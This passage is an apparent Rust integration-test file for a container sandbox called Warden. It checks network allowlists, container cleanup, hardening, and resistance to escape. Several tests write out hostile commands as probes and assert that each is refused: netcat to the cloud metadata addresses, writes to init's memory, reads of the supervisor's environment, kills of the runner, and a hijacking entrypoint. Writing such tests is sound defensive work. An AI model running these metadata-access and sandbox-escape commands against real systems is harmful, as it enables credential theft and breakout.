            "\nNote: connections leave this sandbox only through its proxy (HTTP_PROXY, HTTPS_PROXY, ALL_PROXY), to: 127.0.0.1:{port}\n"
        )),
        "{r:?}"
    );
    let r = sh(&s, "ip -o addr | grep -v ' lo '; echo x | nc -w 1 192.0.2.1 80");
    assert_ne!(r.exit_code, 0, "{r:?}");
    assert!(r.stderr.contains("Network is unreachable"), "{r:?}");
}

#[test]
fn under_an_allowlist_a_name_that_resolves_to_loopback_is_refused_unless_loopback_is_listed() {
    let p = Project::new();
    let port = http_server("loopback");
    let name = String::from_utf8(Command::new("hostname").output().unwrap().stdout).unwrap().trim().to_lowercase();
    let resolved: Vec<_> = std::net::ToSocketAddrs::to_socket_addrs(&(name.as_str(), port)).unwrap().collect();
    assert!(resolved.iter().all(|a| a.ip().is_loopback()), "this test needs the host name to resolve to loopback: {resolved:?}");
    let s = sandbox(&p, "", &allowing(&format!("\"{name}:{port}\"")));
    let r = sh(&s, &format!("wget -q -O- http://{name}:{port}/"));
    assert_ne!(r.exit_code, 0, "{r:?}");
    let ip = resolved[0].ip();
    assert!(
        r.stderr.contains(&format!(
            "Note: Cannot connect to '{name}:{port}': the name resolves to {ip}, a loopback address, which the network allowlist does not include.\nAllowed hosts: {name}:{port}\n"
        )),
        "{r:?}"
    );
    // Listed as an address too, it is reached.
    let s = sandbox(&p, "", &allowing(&format!("\"{name}:{port}\", \"{ip}:{port}\"")));
    assert_eq!(sh(&s, &format!("wget -q -O- http://{name}:{port}/")).stdout, "loopback");
}

// ---- the container's life ----

#[test]
fn a_second_sandbox_with_the_same_settings_shares_the_container_and_the_last_one_removes_it() {
    let p = Project::new();
    let first = sandbox(&p, "", "");
    let name = container_of(&first);
    assert!(sh(&first, "echo kept > /tmp/mark").ok());
    let policy = warden_policy::load(&p.path("policy.yaml")).unwrap();
    let same = ContainerName { name: name.trim_start_matches("warden-").rsplit_once('-').unwrap().0.to_owned(), owner: Owner::ThisProcess };
    let second = ShellSandbox::with_options(&policy, warden_fs::Sandbox::open_for(&policy, None).unwrap(), warden_shell::ProcessCap::start().unwrap(), same).unwrap();
    assert_eq!(container_of(&second), name);
    assert_eq!(sh(&second, "cat /tmp/mark").stdout, "kept\n");
    drop(first);
    assert!(exists(&name), "removed while still in use");
    drop(second);
    assert!(!exists(&name), "left behind");
}

#[test]
fn a_stale_container_whose_owner_died_is_removed_at_the_next_start() {
    let mut dead = Command::new("true").spawn().unwrap();
    let pid = dead.id();
    dead.wait().unwrap();
    let stale = format!("warden-stale-{pid}");
    let (made, _) = podman(&[
        "run", "-d", "--name", &stale, "--label", "io.warden.sandbox=stale", "--label",
        &format!("io.warden.owner={pid}:1"), IMAGE, "sleep", "1000",
    ]);
    assert!(made);
    let (made, _) = podman(&["run", "-d", "--name", &format!("{stale}-foreign"), IMAGE, "sleep", "1000"]);
    assert!(made);
    let p = Project::new();
    let _s = sandbox(&p, "", "");
    assert!(!exists(&stale), "the stale container is still there");
    // A container that Warden did not make is left alone.
    assert!(exists(&format!("{stale}-foreign")));
    podman(&["rm", "-f", "-t", "0", &format!("{stale}-foreign")]);
}

#[test]
fn a_container_of_a_warden_in_another_pid_namespace_is_neither_taken_nor_removed() {
    // Another host on the same engine, in a PID namespace of its own, whose
    // PID there is this process's PID here: same container name, other owner.
    let p = Project::new();
    let own = format!("warden-elsewhere-{}", std::process::id());
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap();
    let start = stat[stat.rfind(')').unwrap() + 2..].split(' ').nth(19).unwrap().to_owned();
    let foreign_mark = format!("{}:{start}:1", std::process::id());
    let (made, out) = podman(&[
        "run", "-d", "--name", &own, "--label", "io.warden.sandbox=elsewhere", "--label",
        &format!("io.warden.owner={foreign_mark}"), IMAGE, "sleep", "1000",
    ]);
    assert!(made, "{out}");
    let s = start_as("elsewhere", &policy_of("64MiB", "", ""), &p, None);
    let next = container_of(&s);
    assert_eq!(next, format!("{own}-2"));
    assert_eq!(sh(&s, "echo mine").stdout, "mine\n");
    drop(s);
    assert!(exists(&own), "the other host's container was removed");
    let (_, label) = podman(&["inspect", &own, "--format", "{{index .Config.Labels \"io.warden.owner\"}}"]);
    assert_eq!(label, foreign_mark);
    podman(&["rm", "-f", "-t", "0", &own]);
}

#[test]
fn the_container_is_hardened() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let (ok, inspect) = podman(&["inspect", &container_of(&s), "--format",
        "{{.HostConfig.ReadonlyRootfs}} {{.HostConfig.CapDrop}} {{.HostConfig.SecurityOpt}} {{.HostConfig.PidsLimit}} {{.HostConfig.Init}} {{.HostConfig.NetworkMode}} {{.HostConfig.Memory}}"]);
    assert!(ok);
    assert!(inspect.starts_with("true "), "{inspect}");
    // docker shows the dropped capabilities as [ALL], podman lists them.
    assert!(inspect.contains("[ALL]") || inspect.contains("CAP_SETUID"), "{inspect}");
    // No engine init: the runner is PID 1 (see init_is_the_undumpable_runner_...).
    for part in ["no-new-privileges", " 512 ", " false ", " none ", " 67108864"] {
        assert!(inspect.contains(part), "{part} missing: {inspect}");
    }
}

#[test]
fn without_limits_in_the_policy_a_container_gets_one_gib_no_swap_one_cpu_and_no_log() {
    let p = Project::new();
    let s = start_named(
        &format!("version: 1\nsandbox:\n  paths:\n    proj: {{ root: ./proj, mode: rw }}\n  shell:\n    backend: container\n    container: {{ image: \"{IMAGE}\", engine: {} }}\n", engine()),
        &p,
        None,
    );
    let (ok, inspect) = podman(&["inspect", &container_of(&s), "--format", "{{.HostConfig.Memory}} {{.HostConfig.MemorySwap}} {{.HostConfig.NanoCpus}} {{.HostConfig.LogConfig.Type}}"]);
    assert!(ok, "{inspect}");
    assert_eq!(inspect, "1073741824 1073741824 1000000000 none");
    // What a command writes to the container's own output goes nowhere on the host.
    let r = sh(&s, "head -c 1000000 /dev/zero > /proc/1/fd/1 && echo written");
    assert!(r.stdout == "written\n" || r.stderr.contains("Permission denied"), "{r:?}");
}

#[test]
fn commands_run_as_root_only_when_the_policy_says_so() {
    let p = Project::new();
    let policy = |user: &str| {
        format!(
            "version: 1\nsandbox:\n  paths:\n    proj: {{ root: ./proj, mode: rw }}\n  shell:\n    backend: container\n    container: {{ image: \"{IMAGE}\", engine: {}{user} }}\n",
            engine()
        )
    };
    // A writable mount of root's: refused unless the policy names a user.
    std::fs::write(p.path("policy.yaml"), policy("")).unwrap();
    let loaded = warden_policy::load(&p.path("policy.yaml")).unwrap();
    let fs = warden_fs::Sandbox::open_for(&loaded, None).unwrap();
    let name = ContainerName { name: "rootcheck".into(), owner: Owner::ThisProcess };
    let err = ShellSandbox::with_options(&loaded, fs, warden_shell::ProcessCap::start().unwrap(), name).err().expect("refused");
    assert_eq!(
        err.to_string(),
        "the writable mount /proj belongs to root, and a container's commands run as root only when the policy says so \
         (shell.container.user: root); give the folder to another user, or name one there (shell.container.user: UID:GID)"
    );
    // Said on purpose, root it is; a uid, that uid.
    for (user, id) in [(", user: root", "0"), (", user: \"4242:4242\"", "4242")] {
        std::fs::write(p.path("policy.yaml"), policy(user)).unwrap();
        let loaded = warden_policy::load(&p.path("policy.yaml")).unwrap();
        let fs = warden_fs::Sandbox::open_for(&loaded, None).unwrap();
        static N: AtomicU32 = AtomicU32::new(0);
        let name = ContainerName { name: format!("userset{}", N.fetch_add(1, Ordering::Relaxed)), owner: Owner::ThisProcess };
        let s = ShellSandbox::with_options(&loaded, fs, warden_shell::ProcessCap::start().unwrap(), name).unwrap();
        assert_eq!(sh(&s, "id -u").stdout, format!("{id}\n"));
    }
}

#[test]
fn the_images_own_entrypoint_never_starts() {
    // An image whose entrypoint would take Warden's command as its arguments.
    let image = format!("localhost/warden-test-entrypoint:{}", std::process::id());
    let build = std::env::temp_dir().join(format!("warden-entrypoint-{}", std::process::id()));
    std::fs::create_dir_all(&build).unwrap();
    std::fs::write(build.join("Containerfile"), format!("FROM {IMAGE}\nENTRYPOINT [\"/bin/sh\", \"-c\", \"echo hijacked > /tmp/entry; sleep 1000\"]\n")).unwrap();
    let (built, out) = podman(&["build", "-q", "-t", &image, "-f", build.join("Containerfile").to_str().unwrap(), build.to_str().unwrap()]);
    assert!(built, "{out}");
    let p = Project::new();
    let s = start_named(&policy_of("64MiB", "", "").replace(IMAGE, &image), &p, None);
    let r = sh(&s, "cat /tmp/entry 2>&1; tr '\\0' ' ' < /proc/$PPID/cmdline");
    assert_eq!(r.stdout, "cat: can't open '/tmp/entry': No such file or directory\n/.warden/runner @warden-runner ", "{r:?}");
    drop(s);
    podman(&["rmi", "-f", &image]);
    let _ = std::fs::remove_dir_all(&build);
}

#[test]
fn a_read_only_mount_with_another_file_system_inside_is_refused() {
    // The engines bind a folder read-only at its top only: a tmpfs mounted
    // inside it on the host would be writable in the container.
    let p = Project::new();
    std::fs::create_dir_all(p.path("docs/cache")).unwrap();
    let mounted = Command::new("mount").args(["-t", "tmpfs", "none"]).arg(p.path("docs/cache")).status().unwrap();
    assert!(mounted.success(), "this test mounts a tmpfs (it runs as root in CI)");
    give_to_user(&p);
    std::fs::write(p.path("policy.yaml"), policy_of("64MiB", "", "")).unwrap();
    let loaded = warden_policy::load(&p.path("policy.yaml")).unwrap();
    let fs = warden_fs::Sandbox::open_for(&loaded, None).unwrap();
    let name = ContainerName { name: "nested".into(), owner: Owner::ThisProcess };
    let err = ShellSandbox::with_options(&loaded, fs, warden_shell::ProcessCap::start().unwrap(), name).err().map(|e| e.to_string());
    let _ = Command::new("umount").arg(p.path("docs/cache")).status();
    let cache = p.path("docs/cache").canonicalize().unwrap();
    assert_eq!(
        err.as_deref(),
        Some(format!("the read-only mount /docs has another file system mounted inside it on the host ({}), which a container would leave writable; mount that folder apart, or unmount it", cache.display()).as_str())
    );
}

#[test]
fn under_network_true_the_metadata_address_and_the_host_are_refused() {
    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let p = Project::new();
    let s = sandbox(&p, "", "  network: true\n");
    // The host, by the bridge's gateway; the metadata service, which nothing here answers.
    let r = sh(
        &s,
        &format!("gw=$(ip route | awk '/default/ {{print $3}}'); echo \"gateway $gw\"; echo hi | nc -w 2 $gw {port}; echo \"host $?\"; echo hi | nc -w 2 169.254.169.254 80 2>&1; echo hi | nc -w 2 168.63.129.16 80 2>&1"),
    );
    assert!(r.stdout.contains("gateway "), "{r:?}");
    assert!(r.stdout.contains("host 1\n"), "{r:?}");
    assert!(r.stdout.contains("nc: can't connect to remote host (169.254.169.254): Permission denied"), "{r:?}");
    assert!(r.stdout.contains("nc: can't connect to remote host (168.63.129.16): Permission denied"), "{r:?}");
    assert!(r.stderr.contains("can't connect to remote host ("), "{r:?}");
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "a connection reached the host");
    // A command cannot take the routes away: it holds no capability.
    let r = sh(&s, "ip route del prohibit 169.254.169.254 2>&1; echo hi | nc -w 2 169.254.169.254 80 2>&1");
    assert!(r.stdout.contains("Operation not permitted"), "{r:?}");
    assert!(r.stdout.contains("Permission denied"), "{r:?}");
}

#[test]
fn the_podman_service_gone_between_commands_is_started_again_when_needed() {
    // Warden's own podman service exits when idle; commands never need it, but
    // a restart of the container and its removal do.
    if engine() != "podman" || std::path::Path::new("/run/podman/podman.sock").exists() {
        return;
    }
    // A service of this test's own (its socket in a runtime folder of its
    // own; each test is a process of its own), so that stopping it stops no
    // other test's.
    let runtime = tempfile::tempdir().unwrap();
    // SAFETY: set before any thread of this test reads the environment.
    unsafe { std::env::set_var("XDG_RUNTIME_DIR", runtime.path()) };
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let name = container_of(&s);
    assert_eq!(sh(&s, "echo before").stdout, "before\n");
    let service = format!("podman system service .*{}/warden/podman.sock", runtime.path().display());
    let killed = Command::new("pkill").args(["-f", &service]).status().unwrap();
    assert!(killed.success(), "no podman service of Warden's to stop");
    std::thread::sleep(Duration::from_millis(300));
    // Commands go on without it...
    assert_eq!(sh(&s, "echo without").stdout, "without\n");
    // ...and the container stopped under the sandbox is started again, through a new service.
    assert!(podman(&["stop", "-t", "0", &name]).0);
    assert_eq!(sh(&s, "echo again").stdout, "again\n");
    drop(s);
    assert!(!exists(&name), "left behind");
    let _ = Command::new("pkill").args(["-f", &service]).status();
}

// ---- the runner ----

/// The container's init, by host PID.
fn init_of(sandbox: &ShellSandbox) -> String {
    let (ok, pid) = podman(&["inspect", &container_of(sandbox), "--format", "{{.State.Pid}}"]);
    assert!(ok, "{pid}");
    pid
}

#[test]
fn commands_are_started_by_the_runners_supervisor_with_an_oom_score_of_1000() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "tr '\\0' ' ' < /proc/$PPID/cmdline; echo; cat /proc/self/oom_score_adj; cat /proc/$PPID/oom_score_adj");
    assert_eq!(r.stdout, "/.warden/runner @warden-runner \n1000\n0\n", "{r:?}");
    // Undumpable: a command of the same user cannot read its environment or take its descriptors.
    for peek in ["cat /proc/$PPID/environ", "cat /proc/$PPID/fd/0", "cat /proc/$PPID/mem"] {
        let r = sh(&s, peek);
        assert_ne!(r.exit_code, 0, "{peek}: {r:?}");
        assert!(r.stderr.contains("Permission denied"), "{peek}: {r:?}");
    }
}

#[test]
fn init_is_the_undumpable_runner_so_a_command_cannot_take_it_over() {
    // An engine's init (catatonit) ran as the commands' user and dumpable:
    // where ptrace_scope allows, a command could write its memory.
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let r = sh(&s, "tr '\\0' ' ' < /proc/1/cmdline; echo");
    assert_eq!(r.stdout, "/.warden/runner @warden-runner \n", "{r:?}");
    for peek in ["printf x | dd of=/proc/1/mem bs=1 seek=4096 conv=notrunc", "cat /proc/1/environ", "ls /proc/1/fd"] {
        let r = sh(&s, peek);
        assert_ne!(r.exit_code, 0, "{peek}: {r:?}");
        assert!(r.stderr.contains("Permission denied"), "{peek}: {r:?}");
    }
    assert_eq!(sh(&s, "echo still served").stdout, "still served\n");
}

#[test]
fn a_command_cannot_switch_wardens_filter_off_for_the_next_ones() {
    // Before: removing the runner's socket made the next command go through
    // the engine's exec, with the engine's filter only.
    let p = Project::new();
    with_probe(&p);
    let s = sandbox(&p, "    allow_unix_sockets: true\n", "");
    let filters = |s: &ShellSandbox| sh(s, "grep Seccomp_filters /proc/self/status").stdout;
    let before = filters(&s);
    let r = sh(&s, "rm -rf /.warden; kill -9 $PPID; kill -STOP 1; cp /proj/probe /tmp/probe; chmod +x /tmp/probe; /tmp/probe bind @warden-runner; ls /.warden");
    assert!(r.stdout.contains("failed: Address already in use"), "the runner's name was taken: {r:?}");
    assert!(r.stdout.contains("runner"), "{r:?}");
    assert_eq!(filters(&s), before);
    assert_eq!(before, "Seccomp_filters:\t3\n", "the container's profile, the runner's guard and Warden's program");
    // A process the engine starts, not the runner, has Warden's rules all the same.
    let (ok, out) = podman(&["exec", &container_of(&s), "sh", "-c", "cp /proj/probe /tmp/p2 && chmod +x /tmp/p2 && /tmp/p2 ptrace; /tmp/p2 tiocsti; /tmp/p2 raw"]);
    assert!(ok, "{out}");
    assert_eq!(out, "ptrace -1 errno 1\ntiocsti 0x5412 errno 1\ntiocsti 0x100005412 errno 1\nraw -1 errno 1");
}

#[test]
fn a_command_cannot_stop_or_kill_its_supervisor_the_runner_or_init() {
    let p = Project::new();
    let s = sandbox(&p, "", "");
    let runner = sh(&s, "ps -o pid,args | grep '/.warden/runner' | grep -v grep | head -1 | cut -c1-6").stdout.trim().to_owned();
    let r = sh_for(
        &s,
        &format!("for target in $PPID {runner} 1 -1 -{runner}; do kill -STOP $target 2>/dev/null && echo stopped || echo refused; kill -9 $target 2>/dev/null && echo killed || echo refused; done"),
        Duration::from_secs(10),
    );
    assert_eq!(r.stdout, "refused\n".repeat(10), "{r:?}");
    assert_eq!(sh(&s, "echo still served").stdout, "still served\n");
}

#[test]
fn a_command_cannot_have_the_runner_start_a_process_beyond_its_timeout() {
    // A process the runner started for a command would be no child of the
    // command's and outlive its timeout. By default the command cannot even
    // make a Unix socket (Warden's seccomp filter); with them allowed, the
    // runner itself says no.
    let p = Project::new();
    with_probe(&p);
    let ask = "runner @warden-runner /bin/sh -c 'touch /proj/escaped; sleep 30'";
    assert_eq!(probe(&sandbox(&p, "", ""), ask).stdout, "failed: Operation not permitted (os error 1)\n");
    let s = sandbox(&p, "    allow_unix_sockets: true\n", "");
    let r = probe(&s, ask);
    assert_eq!(r.stdout, "error the runner takes requests from Warden only\n", "{r:?}");
    std::thread::sleep(Duration::from_millis(300));
    assert!(!p.exists("proj/escaped"));
    assert!(!sh(&s, "ps -o args | grep -v grep | grep -q 'sleep 30' && echo running").stdout.contains("running"));
    assert_eq!(sh(&s, "echo still served").stdout, "still served\n");
}

#[test]
fn a_container_stopped_under_the_sandbox_is_started_again_by_the_next_command() {
    // As after the engine restarted: the container stopped, and its runner with it.
    let p = Project::new();
    let s = sandbox(&p, "", "");
    assert_eq!(sh(&s, "echo before").stdout, "before\n");
    let init = init_of(&s);
    assert!(podman(&["stop", "-t", "0", &container_of(&s)]).0);
    assert_eq!(sh(&s, "echo after").stdout, "after\n");
    assert_ne!(init_of(&s), init, "not a new start");
}
